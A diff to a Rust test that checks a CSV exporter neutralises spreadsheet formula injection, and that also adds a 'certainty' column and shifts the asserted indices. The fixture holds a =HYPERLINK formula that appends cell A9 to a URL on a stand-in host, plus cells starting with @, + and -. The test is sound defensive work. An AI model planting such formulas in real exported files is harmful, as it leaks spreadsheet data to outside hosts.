@@ -6,7 +6,7 @@
 use cyber_spectrum::import::COLUMNS;
 use cyber_spectrum::{Explorer, Filter};
 
-const HEADER_AND: &str = "id,name,start,end,initiator,targets,target_type,method,objective,severity,effects,rationale,attributed_by,attribution_date,description,sources\n";
+const HEADER_AND: &str = "id,name,start,end,initiator,targets,target_type,method,objective,severity,effects,rationale,attributed_by,attribution_date,certainty,description,sources\n";
 
 /// Cells of CSV text, read by the csv crate (a real parser, not ours).
 fn cells(text: &str) -> Vec<Vec<String>> {
@@ -40,7 +40,7 @@ fn no_cell_starts_a_formula_and_the_payload_comes_back_as_text() {
     let payload = r#"=HYPERLINK("http://host/x?"&A9,"Click for sources")"#;
     let quoted = payload.replace('"', "\"\"");
     let data = format!(
-        "{HEADER_AND}@id,\"{quoted}\",2014-11-24,,PRK,USA;KOR,,,,5,data,+1 level,-cmd,,\"\tTabbed, with a comma\",https://a.example/1 https://b.example/2\n"
+        "{HEADER_AND}@id,\"{quoted}\",2014-11-24,,PRK,USA;KOR,,,,5,data,+1 level,-cmd,,suspected,\"\tTabbed, with a comma\",https://a.example/1 https://b.example/2\n"
     );
     let ex = Explorer::from_text(&data, "csv").unwrap();
     let text = ex.csv_rows(&[0]).unwrap();
@@ -50,7 +50,8 @@ fn no_cell_starts_a_formula_and_the_payload_comes_back_as_text() {
     }
     assert_eq!(row[1], format!("'{payload}"));
     assert_eq!(row[5], "USA;KOR");
-    assert_eq!(row[15], "https://a.example/1 https://b.example/2");
+    assert_eq!(row[14], "suspected");
+    assert_eq!(row[16], "https://a.example/1 https://b.example/2");
     // Read back, the apostrophes go and the texts are as they were.
     let header = COLUMNS.iter().map(|c| c.name).collect::<Vec<_>>().join(",");
     let back = Explorer::from_text(&format!("{header}\r\n{text}"), "csv").unwrap();
